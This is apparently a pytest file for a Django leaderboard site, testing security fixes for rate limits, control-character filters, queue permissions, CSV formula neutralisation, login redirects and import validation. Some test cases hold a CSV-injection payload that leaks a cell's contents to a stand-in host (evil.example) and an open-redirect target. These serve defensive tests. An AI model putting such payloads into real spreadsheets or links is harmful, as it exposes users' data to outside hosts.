"""Issue 12's fixes, one test each, in process (the live replay is tests/integration/test_hardening_live.py):
the one write limit for page forms, the query-parameter guard, the django-rq permission, the CSV
export's formula guard, LOGIN_REDIRECT_URL, the cache choice, and the row-level import rules."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import Permission, User
from django.http import HttpResponse
from django.test import RequestFactory
from django.urls import reverse

from config.rq_dashboard import queue_managers_only
from leaderboard.models import Kernel
from leaderboard.reads.board.columns import spreadsheet_safe

from .conftest import KERNEL
from .test_run_import import make_zip, upload


@pytest.fixture
def submit_url(problem_set):
    return reverse("problem-submit", args=[problem_set.problems.get(level=1, number=1).pk])


def test_the_submission_form_shares_the_api_write_limit(
    client, token_client, ingestor, submit_url, hardware, model, settings
):
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {"writes": "3/min"}}
    api = token_client(ingestor)
    assert [api.post("/api/v1/reported-scores/", [], format="json").status_code for _ in range(2)] == [400, 400]
    client.force_login(ingestor)
    assert client.post(submit_url, {"source": "print(1)", "hardware": "cpu", "model": "model-a"}).status_code == 400
    response = client.post(submit_url, {"source": KERNEL, "hardware": "cpu", "model": "model-a"})
    assert response.status_code == 429 and int(response["Retry-After"]) > 0
    assert "3/min" in response.content.decode() and Kernel.objects.count() == 0
    assert api.post("/api/v1/reported-scores/", [], format="json").status_code == 429
    assert client.get(submit_url).status_code == 200  # reads are not limited


@pytest.mark.parametrize("path", ["/search/?q=%00", "/reported/?variant=a%01b", "/levels/all/?setting=%00"])
def test_a_page_filter_with_a_control_character_is_a_400_naming_it(client, problem_set, path):
    response = client.get(path)
    assert response.status_code == 400 and response["Content-Type"].startswith("text/plain")
    assert "query parameter" in response.content.decode() and "control character" in response.content.decode()


def test_an_api_filter_with_a_control_character_is_a_json_400(client):
    response = client.get("/api/v1/runs/?setting=%00&%1Fx=1")
    assert response.status_code == 400 and "control character" in response.json()["detail"]


def test_the_queue_dashboard_needs_the_permission_not_is_staff(client, db):
    staff = User.objects.create_user("staff", is_staff=True)
    client.force_login(staff)
    assert client.post("/django-rq/queues/1/empty/").status_code == 403
    assert client.get("/django-rq/").status_code == 403
    client.logout()
    assert client.get("/django-rq/")["Location"].startswith("/admin/login/")


def test_the_permission_or_superuser_passes_the_guard(db):
    view = queue_managers_only(lambda request: HttpResponse("ok"))
    manager = User.objects.create_user("manager")
    manager.user_permissions.add(Permission.objects.get(codename="manage_queues"))
    for user in (manager, User.objects.create_superuser("root", password=None)):
        request = RequestFactory().get("/django-rq/")
        request.user = User.objects.get(pk=user.pk)  # fresh: no permission cache
        assert view(request).status_code == 200


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.5", "-0.5"),
        ("-12.5%", "-12.5%"),
        ("1.20x", "1.20x"),
        ("Model A", "Model A"),
        (3, 3),
        (-1.5, -1.5),
    ],
)
def test_csv_cells_that_would_run_as_formulas_are_neutralised(cell, safe):
    assert spreadsheet_safe(cell) == safe


def test_the_level_csv_export_neutralises_a_formula_model_name(client, run):
    run.model.name = '=HYPERLINK("http://evil.example/","x")'
    run.model.save()
    text = client.get("/levels/all/?export=csv").content.decode()
    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text


def test_an_unsafe_next_after_sign_in_lands_on_the_home_page(client, db):
    User.objects.create_superuser("admin2", password="a-long-password-9")
    response = client.post(
        "/admin/login/?next=http://evil.example/",
        {"username": "admin2", "password": "a-long-password-9", "next": "http://evil.example/"},
    )
    assert response.status_code == 302 and response["Location"] == django_settings.LOGIN_REDIRECT_URL == "/"


@pytest.mark.parametrize(("redis_url", "backend"), [("redis://127.0.0.1:6399/0", "RedisCache"), (None, "LocMemCache")])
def test_the_cache_is_redis_when_redis_url_is_set(redis_url, backend):
    env = {k: v for k, v in os.environ.items() if k != "REDIS_URL"}
    if redis_url:
        env["REDIS_URL"] = redis_url
    code = (
        "import django; django.setup(); from django.conf import settings; print(settings.CACHES['default']['BACKEND'])"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        env={**env, "DJANGO_SETTINGS_MODULE": "config.settings"},
        cwd=django_settings.BASE_DIR,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.stdout.strip().endswith(backend), result.stderr


@pytest.mark.parametrize(
    ("results", "message"),
    [
        (
            {"1": [{"compiled": True, "correctness": True, "runtime": -3.5}]},
            "problem 1 result 0: runtime -3.5 ms is not positive",
        ),
        (
            {"1": [{"compiled": True, "correctness": True, "runtime": 0}]},
            "problem 1 result 0: runtime 0 ms is not positive",
        ),
        ({"1": [{"compiled": True, "correctness": False, "runtime": -7}]}, "runtime -7 ms is not positive"),
        ({"1": [{"compiled": True, "correctness": True, "runtime": 1e999}]}, "Infinity is not allowed"),
        (
            {"1": [{"compiled": True, "correctness": True, "runtime": 1, "runtime_stats": {"mean": -1}}]},
            "runtime_stats 'mean'",
        ),
        ({"²": []}, "key '²' is not a problem id"),
        ({"9" * 5000: []}, "out of range"),
        ({"1": [{"sample_id": 2**31}]}, "sample_id 2147483648 is out of range (0-2147483647)"),
    ],
)
def test_import_results_out_of_range_or_not_positive_are_refused(
    token_client, ingestor, problem_set, hardware, results, message
):
    files = {"level_1_problem_1_sample_0_kernel.py": KERNEL, "eval_results.json": json.dumps(results)}
    response = upload(token_client(ingestor), make_zip(files))
    assert response.status_code == 400 and any(message in error for error in response.json()["errors"]), response.json()
    assert Kernel.objects.count() == 0


def test_kernelbench_failed_runtime_of_minus_one_is_still_accepted(token_client, ingestor, problem_set, hardware):
    results = {"1": [{"compiled": False, "correctness": False, "runtime": -1.0}]}
    files = {"level_1_problem_1_sample_0_kernel.py": KERNEL, "eval_results.json": json.dumps(results)}
    assert upload(token_client(ingestor), make_zip(files)).status_code == 201


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("level_1_problem_1_sample_99999999999999999999_kernel.py", "out of range"),
        ("level_1_problem_1_sample_2147483648_kernel.py", "sample 2147483648 is out of range (0-2147483647)"),
        ("level_1_problem_" + "9" * 5000 + "_sample_0_kernel.py", "(5000 characters) is out of range"),
        ("level_1_problem_0_sample_0_kernel.py", "problem 0: Ensure this value is greater than or equal to 1"),
    ],
)
def test_kernel_file_numbers_out_of_range_are_refused(token_client, ingestor, problem_set, hardware, name, message):
    response = upload(token_client(ingestor), make_zip({name: KERNEL}))
    assert response.status_code == 400 and message in response.json()["errors"][0]
    assert len(response.json()["errors"][0]) < 300  # a 5000-digit name is not echoed whole


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("x" * 200_000 + ",model\n", "line 1: a cell is longer than 10000 characters"),
        ("model,organization,variant,metric,value,unit,setting,hardware,date,source_url\n", "no rows below the header"),
        (
            "model,variant,metric,value,unit,date,source_url,notes\nM,V,fast_1,4,%,2025-01-01,https://e.com,hi\n",
            "unknown column(s) &#x27;notes&#x27;",
        ),  # HTML-escaped in the admin page
    ],
)
def test_the_admin_upload_uses_the_same_csv_rules(admin_client, body, message):
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = admin_client.post(
        "/admin/leaderboard/reportedscore/upload-csv/", {"file": SimpleUploadedFile("s.csv", body.encode())}
    )
    assert response.status_code == 400 and message in response.content.decode()


def test_deploy_check_warns_when_the_write_limit_would_be_per_process():
    env = {k: v for k, v in os.environ.items() if k not in ("REDIS_URL", "CONTENT_SECURITY_POLICY")}
    env.update({"DJANGO_SETTINGS_MODULE": "config.settings_production", "SECRET_KEY": "x" * 60 + "-Z9q!"})
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=django_settings.BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode != 0 and "kb.W010" in result.stderr and "kb.W011" not in result.stderr
